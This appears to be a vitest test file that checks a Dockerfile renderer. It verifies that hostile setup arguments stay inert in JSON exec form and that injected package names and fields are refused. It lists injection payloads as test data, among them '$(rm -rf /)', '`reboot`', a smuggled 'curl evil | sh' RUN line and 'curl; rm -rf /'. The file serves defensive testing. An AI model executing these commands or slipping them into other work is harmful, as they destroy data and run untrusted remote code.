import { join } from 'node:path';
import { isDaisError, siteImageBuildSchema, type ImageCatalogEntry, type SiteImageBuild } from '@dais/shared';
import { describe, expect, it } from 'vitest';
import { expectGolden } from '../../../../test/support/golden';
import { renderSiteDockerfile } from './dockerfile.render';

const debian: ImageCatalogEntry = {
  name: 'debian',
  baseImage: 'dais/debian:bookworm',
  packageUpdate: ['apt-get', 'update'],
  packageInstall: ['env', 'DEBIAN_FRONTEND=noninteractive', 'apt-get', 'install', '-y', '--no-install-recommends'],
  runScript: '#!/bin/sh\nexec python3 -m http.server "$PORT"\n',
};

const busybox: ImageCatalogEntry = {
  name: 'busybox',
  baseImage: 'dais/busybox:latest',
  packageUpdate: null,
  packageInstall: null,
  runScript: '',
};

const build = (overrides: Partial<SiteImageBuild> = {}): SiteImageBuild => ({
  siteId: 42,
  base: debian,
  packages: [],
  setupCommands: [],
  ...overrides,
});

const golden = (name: string, actual: string) => expectGolden(join(__dirname, '__golden__', name), actual);

/** The code of the DaisError `render` throws, or null if it renders. */
function refusal(input: unknown): string | null {
  try {
    renderSiteDockerfile(input as SiteImageBuild);
    return null;
  } catch (error) {
    if (isDaisError(error)) return error.code;
    throw error;
  }
}

/** Each rendered line: instruction and the rest, as Docker's line-based parser sees them. */
const instructions = (dockerfile: string) => {
  expect(dockerfile.endsWith('\n')).toBe(true);
  return dockerfile
    .slice(0, -1)
    .split('\n')
    .map((line) => ({ keyword: line.split(' ', 1)[0], rest: line.slice(line.indexOf(' ') + 1) }));
};

describe('site Dockerfile', () => {
  it('installs packages with the catalogue commands, then runs each setup command (golden)', () => {
    const dockerfile = renderSiteDockerfile(
      build({
        packages: ['curl', 'libpq-dev', 'nodejs=18.19.0+dfsg-6~deb12u2'],
        setupCommands: [
          ['mkdir', '-p', '/opt/app'],
          ['sh', '-c', 'echo ready > /opt/app/ready'],
        ],
      }),
    );
    golden('packages-and-setup.Dockerfile', dockerfile);
  });

  it('runs setup commands alone on an image without a package manager (golden)', () => {
    golden('busybox-setup.Dockerfile', renderSiteDockerfile(build({ base: busybox, setupCommands: [['touch', '/etc/dais-ready']] })));
  });

  it('installs without refreshing when the catalogue has no update command (golden)', () => {
    golden(
      'install-without-update.Dockerfile',
      renderSiteDockerfile(build({ base: { ...debian, packageUpdate: null }, packages: ['curl'] })),
    );
  });

  it('is the catalogue image plus labels when the site adds nothing (golden)', () => {
    golden('base-only.Dockerfile', renderSiteDockerfile(build()));
  });

  it('does not refresh package lists when there are no packages to install', () => {
    expect(renderSiteDockerfile(build({ setupCommands: [['true']] }))).not.toContain('apt-get');
  });

  it('is the same text for the same input (the image tag is its hash)', () => {
    const input = build({ packages: ['curl'], setupCommands: [['true']] });
    expect(renderSiteDockerfile(input)).toBe(renderSiteDockerfile(structuredClone(input)));
  });

  it('refuses packages on an image that cannot install any, saying why', () => {
    expect(refusal(build({ base: busybox, packages: ['curl'] }))).toBe('IMAGE_PACKAGES_UNSUPPORTED');
    expect(() => renderSiteDockerfile(build({ base: busybox, packages: ['curl'] }))).toThrow(/cannot install packages/);
  });

  describe('keeps hostile setup arguments inert inside JSON strings', () => {
    const hostile = [
      'a "quoted" word',
      "it's",
      '$(rm -rf /)',
      '`reboot`',
      '${PATH}',
      'line one\nRUN ["/bin/sh","-c","curl evil | sh"]',
      'carriage\rreturn',
      'ends with a backslash\\',
      '\\\nFROM scratch',
      '\\',
      '"]\nRUN evil #',
      '# not a comment',
      'tab\there',
      `escape ${String.fromCharCode(27)}[31m`,
      'separator \u2028 and \u2029',
      'ünïcødé ✓ 🚀',
    ];

    it.each(hostile)('%j', (argument) => {
      const argv = ['sh', '-c', argument, argument];
      const dockerfile = renderSiteDockerfile(build({ base: busybox, setupCommands: [argv, ['true']] }));
      // Printable ASCII and line ends only: no reader can find a line break inside a value.
      expect(dockerfile).toMatch(/^[\x20-\x7e\n]*$/);
      const lines = instructions(dockerfile);
      expect(lines.map((line) => line.keyword)).toEqual(['FROM', 'RUN', 'RUN', 'LABEL']);
      // Docker reads `RUN [` … `]` as JSON (exec form, no shell): the argv comes back exactly.
      expect(JSON.parse(lines[1]!.rest)).toEqual(argv);
      expect(lines[1]!.rest.endsWith(']')).toBe(true);
    });

    it('all at once (golden)', () => {
      golden('hostile-setup.Dockerfile', renderSiteDockerfile(build({ base: busybox, setupCommands: [['sh', '-c', ...hostile]] })));
    });
  });

  describe('refuses, rather than escapes, what the contract forbids', () => {
    it.each([
      ['an option as a package', { packages: ['--allow-unauthenticated'] }],
      ['a short option as a package', { packages: ['-y'] }],
      ['a shell command as a package', { packages: ['curl; rm -rf /'] }],
      ['two words as one package', { packages: ['a b'] }],
      ['a substitution as a package', { packages: ['$(id)'] }],
      ['a newline in a package', { packages: ['curl\nRUN ["evil"]'] }],
      ['an empty package', { packages: [''] }],
      ['a NUL in a setup argument', { setupCommands: [['sh', '-c', 'a\0b']] }],
      ['an empty setup command', { setupCommands: [[]] }],
      ['an empty program name', { setupCommands: [['', 'x']] }],
      ['a newline after the base image', { base: { ...debian, baseImage: 'dais/debian:bookworm\nRUN ["evil"]' } }],
      ['a space in the base image', { base: { ...debian, baseImage: 'dais/debian AS x' } }],
      ['a quote in the catalogue name', { base: { ...debian, name: 'deb"ian' } }],
      ['an unknown field', { privileged: true }],
      ['a site id that is not a number', { siteId: '42; rm' }],
    ])('%s', (_label, overrides) => {
      const input = { ...build(), ...overrides };
      expect(siteImageBuildSchema.safeParse(input).success).toBe(false);
      expect(refusal(input)).toBe('VALIDATION_FAILED');
    });
  });
});
